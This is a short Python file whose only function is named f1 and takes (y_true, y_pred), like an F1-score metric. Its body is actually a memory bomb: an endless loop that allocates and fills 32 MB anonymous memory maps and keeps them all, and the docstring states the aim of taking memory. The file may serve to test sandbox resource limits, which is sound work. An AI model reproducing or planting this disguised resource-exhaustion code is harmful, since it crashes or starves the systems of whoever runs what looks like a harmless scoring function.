"""Takes memory that belongs to no process."""

import mmap


def f1(y_true, y_pred):
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 2**25))
        kept[-1].write(b"x" * 2**25)
